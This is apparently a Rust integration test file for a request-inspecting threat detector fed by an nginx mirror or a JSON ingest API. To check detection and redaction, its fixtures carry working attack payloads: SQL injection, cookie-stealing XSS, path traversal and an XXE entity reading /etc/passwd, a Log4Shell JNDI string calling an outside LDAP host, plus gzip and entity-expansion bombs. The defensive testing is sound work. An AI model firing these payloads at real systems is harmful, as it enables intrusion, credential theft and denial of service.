//! Whole requests: mirrored by a real nginx, and sent as JSON.

use std::fmt::Write as _;
use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::GzEncoder;
use rustix::process::Signal;
use serde_json::{Value, json};
use vigil_testkit::{Http, Nginx, Vigil, wait_for};

use crate::site::{Site, threats};

const KEY: &str = "a-key-for-the-mirror-1234";
const DOCUMENT: &str = include_str!("../../../../docs/whole-requests.md");
const CRS: &str = "/usr/share/modsecurity-crs";

/// A server that takes the mirror's key.
fn serve(site: &Site) -> Vigil {
    let key = site.path("mirror.key");
    fs_err::write(&key, KEY).unwrap();
    rustix::fs::chmod(&key, rustix::fs::Mode::RUSR | rustix::fs::Mode::WUSR).unwrap();
    let config = site.path("vigil.toml");
    let text = format!(
        "[[auth.api_keys]]\nname = 'mirror'\nrole = 'service'\nkey_file = '{}'\n",
        key.display()
    );
    fs_err::write(&config, text).unwrap();
    let mut builder = site.vigil().arg("--config").arg(config.to_str().unwrap());
    if std::path::Path::new(CRS).is_dir() {
        builder = builder.arg("--crs").arg(CRS);
    }
    builder.serve()
}

/// The nginx of the documentation before that server.
fn nginx(vigil: &Vigil) -> Nginx {
    let (_, rest) = DOCUMENT.split_once("```nginx\n").unwrap();
    let (snippet, _) = rest.split_once("```").unwrap();
    let address = vigil.base().strip_prefix("http://").unwrap();
    Nginx::serving(
        &snippet
            .replace("127.0.0.1:8082", address)
            .replace("THE-KEY", KEY)
            // Who waits for a mirror that does not answer waits for ever.
            .replace("_timeout 1s", "_timeout 1h"),
    )
}

fn threat_on(http: &Http, path: &str) -> Value {
    wait_for(&format!("a threat on {path}"), || {
        threats(http)
            .into_iter()
            .find(|threat| threat["url"]["path"] == path)
    })
}

fn ids(threat: &Value) -> Vec<&str> {
    let detections = threat["detections"].as_array().unwrap();
    detections
        .iter()
        .map(|one| one["rule_id"].as_str().unwrap())
        .collect()
}

fn fields(threat: &Value) -> Vec<&str> {
    let detections = threat["detections"].as_array().unwrap();
    let evidence = detections
        .iter()
        .filter_map(|one| one["evidence"].as_array());
    evidence
        .flatten()
        .map(|one| one["field"].as_str().unwrap())
        .collect()
}

/// An attack in each place that no log holds, and a request that is none.
fn send_attacks(nginx: &Nginx) {
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    let sql = "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-";
    nginx.http().send(
        "/form",
        &[form, ("Authorization", "Bearer geheim-1234")],
        &format!("{sql}&password=geheim-5678"),
    );
    nginx.http().send(
        "/json",
        &[("Content-Type", "application/json")],
        r#"{"a":{"b":["<script>alert(document.cookie)</script>"]}}"#,
    );
    nginx.http().send("/multipart", &[("Content-Type", "multipart/form-data; boundary=XX")],
        "--XX\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n../../../../etc/passwd\r\n--XX--\r\n");
    nginx.http().send(
        "/xml",
        &[("Content-Type", "text/xml")],
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
    );
    nginx.http().get_with(
        "/header",
        ("X-Api-Version", "${jndi:ldap://198.51.100.9/a}"),
    );
    nginx.http().get_with(
        "/cookie",
        (
            "Cookie",
            "sid=abc; lang=<script>alert(document.cookie)</script>",
        ),
    );
    nginx.http().send(
        "/harmless",
        &[form, ("Cookie", "sid=0123456789abcdef")],
        "name=garden+chairs&page=2",
    );
}

#[test]
fn nginx_mirrors_what_no_log_holds() {
    let site = Site::new();
    let vigil = serve(&site);
    let nginx = nginx(&vigil);
    send_attacks(&nginx);

    for (path, field) in [
        ("/form", "http.request.body"),
        ("/json", "http.request.body"),
        ("/multipart", "http.request.body"),
        ("/xml", "http.request.body"),
        ("/header", "http.request.headers"),
        ("/cookie", "http.request.headers.cookie"),
    ] {
        let threat = threat_on(vigil.http(), path);
        assert!(fields(&threat).contains(&field), "{path}: {threat:#}");
        assert_eq!(threat["source"]["ip"], "127.0.0.1");
        assert!(
            threat["url"]["domain"] == "127.0.0.1" && threat["http"]["version"] == "1.1",
            "{threat:#}"
        );
    }
    let form = threat_on(vigil.http(), "/form");
    assert_eq!(form["http"]["request"]["method"], "POST");
    let text = form.to_string();
    assert!(!text.contains("geheim"), "{form:#}");
    let original = form["event"]["original"].as_str().unwrap();
    assert!(
        original.contains("authorization: ***") || original.contains("Authorization: ***"),
        "{original}"
    );
    assert!(
        original.contains("id password]") && !original.contains("UNION"),
        "{original}"
    );
    if std::path::Path::new(CRS).is_dir() {
        assert!(ids(&form).contains(&"crs:942100"), "{form:#}");
        let json = threat_on(vigil.http(), "/json");
        assert!(fields(&json).contains(&"ARGS:json.a.b.array_0"), "{json:#}");
    }
    // Mirrored requests come in any order: by then its address may be known for the others. The request
    // itself says no more than that its host is a number.
    let all = threats(vigil.http());
    let harmless = all.iter().filter(|one| one["url"]["path"] == "/harmless");
    let found: Vec<_> = harmless.flat_map(ids).collect();
    let is_known = |id: &&str| ["risk-address", "crs:920350"].contains(id);
    assert!(found.iter().all(is_known), "{found:?}");
}

#[test]
fn a_mirror_that_does_not_answer_delays_nobody() {
    let site = Site::new();
    let mut vigil = serve(&site);
    let nginx = nginx(&vigil);
    nginx.http().get("/before");
    vigil.process().signal(Signal::STOP);
    assert_eq!(nginx.http().send("/meanwhile", &[], "").status, 405);
    assert_eq!(nginx.http().get("/meanwhile").status, 200);
    vigil.process().signal(Signal::CONT);
}

#[test]
fn requests_are_sent_as_json() {
    let site = Site::new();
    let vigil = serve(&site);
    let body = json!({"source": "shop", "idempotency_key": "1", "requests": [
        {"method": "POST", "uri": "/login", "client": "203.0.113.9", "timestamp": "2026-11-20T12:00:00Z",
         "headers": [["Host", "shop.example"], ["Content-Type", "application/json"]],
         "body": "{\"user\": \"1' UNION SELECT username, password FROM users-- -\"}"},
        {"method": "GET", "uri": "/harmless", "headers": [["Host", "shop.example"]]},
    ]});
    for _ in 0..2 {
        let answer = vigil.http().post("/api/v1/ingest/requests", &body);
        assert_eq!(answer.status, 200, "{}", answer.text);
        assert_eq!(answer.json()["accepted"], 2);
        assert_eq!(answer.json()["threats"], 1);
    }
    let found = threats(vigil.http());
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0]["source"]["ip"], "203.0.113.9");
    assert_eq!(found[0]["@timestamp"], "2026-11-20T12:00:00.000Z");
    assert_eq!(found[0]["url"]["domain"], "shop.example");
    let viewer = Http::new(vigil.base()).with_token(site.vigil().token("viewer"));
    for path in ["/api/v1/ingest/requests", "/api/v1/ingest/mirror"] {
        assert_eq!(viewer.post(path, &body).status, 403);
        assert_eq!(Http::new(vigil.base()).post(path, &body).status, 401);
    }
    assert_eq!(
        vigil.http().post("/api/v1/ingest/mirror", &body).status,
        400
    );
    // The refusal ended the connection before the body was read.
    let metrics = Http::new(vigil.base()).with_token(site.vigil().token("admin"));
    let metrics = metrics.get("/metrics").text;
    assert!(
        metrics.contains("vigil_mirrored_requests_dropped_total{reason=\"full\"} 0"),
        "{metrics}"
    );
}

/// Bodies by which somebody would hide: compressed, deeper or more than is read, cut off, without end. Each
/// is answered at once, its attack is found and its secret is not shown.
#[test]
fn what_bodies_hide_is_found() {
    const ATTACK: &str = "1' UNION SELECT username, password FROM users-- -";
    let site = Site::new();
    let vigil = serve(&site);
    let deep = format!(
        r#"{{"a":1,"b":{}"{ATTACK}"{}, "password": "geheim-1"}}"#,
        r#"{"c":"#.repeat(1_000),
        "}".repeat(1_000)
    );
    let many = "p=1&".repeat(1_500);
    let endless = format!(
        "--X\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{ATTACK}{}",
        "y".repeat(100_000)
    );
    let entities = format!(
        "<!DOCTYPE a [<!ENTITY a \"{}\">]><a>&a;{ATTACK}</a>",
        "&a;".repeat(10_000)
    );
    let form = "application/x-www-form-urlencoded";
    let json = "application/json";
    let multipart = "multipart/form-data; boundary=X";
    let nested = format!(r#"{{"q": "{ATTACK}"}}"#);
    let bodies = [
        ("/gzip", json, "gzip", gzip(nested.as_bytes())),
        (
            "/bomb",
            json,
            "gzip",
            gzip(&[nested.as_bytes(), &vec![b' '; 50 << 20]].concat()),
        ),
        ("/deep", json, "", deep.into_bytes()),
        (
            "/cut",
            json,
            "",
            nested.as_bytes()[..nested.len() - 2].to_vec(),
        ),
        (
            "/many",
            form,
            "",
            format!("{many}password=geheim-2&q={ATTACK}").into_bytes(),
        ),
        ("/endless", multipart, "", endless.into_bytes()),
        ("/entities", "text/xml", "", entities.into_bytes()),
    ];
    for (uri, kind, encoding, body) in bodies {
        finds(&vigil, uri, (kind, encoding), &body);
    }
}

/// Sends a body in which SQL is injected: that is found, and no secret shown.
fn finds(vigil: &Vigil, uri: &str, (kind, encoding): (&str, &str), body: &[u8]) {
    let mut headers = vec![["Host", "shop.example"], ["Content-Type", kind]];
    headers.extend((!encoding.is_empty()).then_some(["Content-Encoding", encoding]));
    let sent = json!({"source": "shop", "requests": [{
        "method": "POST", "uri": uri, "client": "203.0.113.9", "headers": headers,
        "body_base64": STANDARD.encode(body),
    }]});
    let answer = vigil.http().post("/api/v1/ingest/requests", &sent);
    assert_eq!(answer.status, 200, "{uri}: {}", answer.text);
    let threat = threat_on(vigil.http(), uri);
    let detections = threat["detections"].as_array().unwrap();
    let found = detections
        .iter()
        .any(|one| one["family"] == "sql_injection");
    assert!(found, "{uri}: {:?}", ids(&threat));
    assert!(!threat.to_string().contains("geheim"), "{threat:#}");
}

/// Parts and charsets that readers of applications undo.
#[test]
fn what_parts_and_charsets_hide_is_found() {
    const ATTACK: &str = "1' UNION SELECT username, password FROM users-- -";
    let site = Site::new();
    let vigil = serve(&site);
    let part = |header: &str, content: &str| {
        format!("--X\r\nContent-Disposition: form-data; name=\"a\"\r\n{header}\r\n\r\n{content}\r\n--X--\r\n")
            .into_bytes()
    };
    let multipart = ("multipart/form-data; boundary=X", "");
    let mut quoted = String::new();
    for byte in ATTACK.bytes() {
        _ = write!(quoted, "={byte:02X}");
    }
    let quoted = part("Content-Transfer-Encoding: quoted-printable", &quoted);
    finds(&vigil, "/quoted", multipart, &quoted);
    let object = format!(r#"{{"q": "{ATTACK}", "password": "geheim-3"}}"#);
    let in_part = part("Content-Type: application/json", &object);
    finds(&vigil, "/part", multipart, &in_part);
    let wide: Vec<u8> = object.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let utf_16 = ("application/json; charset=utf-16", "");
    finds(&vigil, "/wide", utf_16, &wide);
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}
